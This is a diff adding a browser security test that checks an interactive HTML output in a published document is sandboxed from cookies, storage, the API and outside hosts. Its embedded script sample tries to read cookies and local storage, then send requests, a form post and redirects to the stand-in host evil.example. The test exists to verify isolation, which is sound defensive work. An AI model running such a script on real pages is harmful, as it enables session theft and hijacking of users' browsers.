@@ -274,6 +274,70 @@ test('S10 PB16 a page in a browser that is signed in reads no cookie, no storage
     if (what !== 'origin') assert.match(got, /^refused: /, `${what}: ${got}`)
 })
 
+const program = `<canvas id="plot"></canvas><p id="said">nothing</p><script>
+  document.getElementById('plot').getContext('2d').fillRect(0, 0, 9, 9)
+  document.getElementById('said').textContent = 'drawn by ' + self.origin
+  const evil = 'https://evil.example/'
+  const told = {}
+  const tried = (name, what) => { try { told[name] = String(what()) } catch (error) { told[name] = 'refused: ' + error.name } }
+  tried('cookie', () => document.cookie)
+  tried('storage', () => localStorage.getItem('canary'))
+  tried('parent', () => parent.document.title)
+  tried('top', () => { top.location = evil })
+  new Image().src = evil + 'image'
+  fetch(evil).then(() => told.fetch = 'reached', error => told.fetch = 'refused: ' + error.name)
+  fetch('/api/v1/me', { credentials: 'include' }).then(() => told.api = 'reached', error => told.api = 'refused: ' + error.name)
+  const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' })
+  document.body.append(form)
+  tried('open', () => open(evil))
+  setTimeout(() => { document.title = JSON.stringify(told); form.submit() }, 400)
+  setTimeout(() => { location = evil + 'moved' }, 1500)
+</script>`
+
+test('S10 PB20 an interactive output draws in a frame of its own, and reaches no cookie, no storage, no API and nobody', async t => {
+  const s = await scene(t)
+  const doc = openDocument(t, s, 'bergen.md')
+  await eventually('the document', async () => doc.getText('content').length > 0)
+  const displayData = [{ parts: [{ at: 'inline', mimeType: 'text/html', data: program }] }]
+  doc.transact(() => {
+    const entry = { id: 'run-9', status: 'completed', displayData }
+    doc.getMap('executions').set('run-9', new Y.Map<unknown>(Object.entries(entry)))
+    doc.getText('content').insert(doc.getText('content').length, '\n```python\nx\n```\n\n```output:run-9\n```\n')
+  })
+  await eventually('the output', async () =>
+    (await (await s.api('GET', `/documents/${s.id}/content`)).text()).includes('run-9'),
+  )
+  const { url } = await s.publish({ mode: 'continuous' })
+  const { context, page } = await signedIn(t, s)
+  await page.goto(url)
+  // Behind the policy: what comes here would have been sent.
+  const asked: string[] = []
+  await context.route('**', route => {
+    asked.push(route.request().url())
+    return route.request().url().startsWith(url) ? route.continue() : route.abort()
+  })
+  await page.getByRole('link', { name: 'Open the interactive figure' }).click()
+  await page.waitForURL(`${url}?output=run-9.0`)
+  const inside = page.frameLocator('iframe')
+  await inside.getByText('drawn by null').waitFor()
+  const frame = page.frames().find(one => one !== page.mainFrame())!
+  await page.waitForTimeout(800)
+  const told = JSON.parse(await frame.title()) as Record<string, string>
+  assert.deepEqual(Object.keys(told).sort(), ['api', 'cookie', 'fetch', 'open', 'parent', 'storage', 'top'])
+  for (const [what, got] of Object.entries(told))
+    assert.match(got, what === 'open' ? /^null$/ : /^refused: /, `${what}: ${got}`)
+  // It has tried to go elsewhere by now.
+  await page.waitForTimeout(1_500)
+  assert.deepEqual(asked, [`${url}?output=run-9.0`])
+  assert.equal(page.url(), `${url}?output=run-9.0`)
+  // Without the policy it would have.
+  await withPolicy(page, `${url}?output=run-9.0`, () => 'sandbox allow-scripts')
+  await page.goto(`${url}?output=run-9.0`)
+  await eventually('others to be asked', () => asked.includes('https://evil.example/image'))
+  await page.getByRole('link', { name: 'bergen' }).click()
+  await page.waitForURL(url)
+})
+
 test('S10 the spy can tell: in the app it reads what it should not', async t => {
   const s = await scene(t)
   const { page } = await signedIn(t, s)
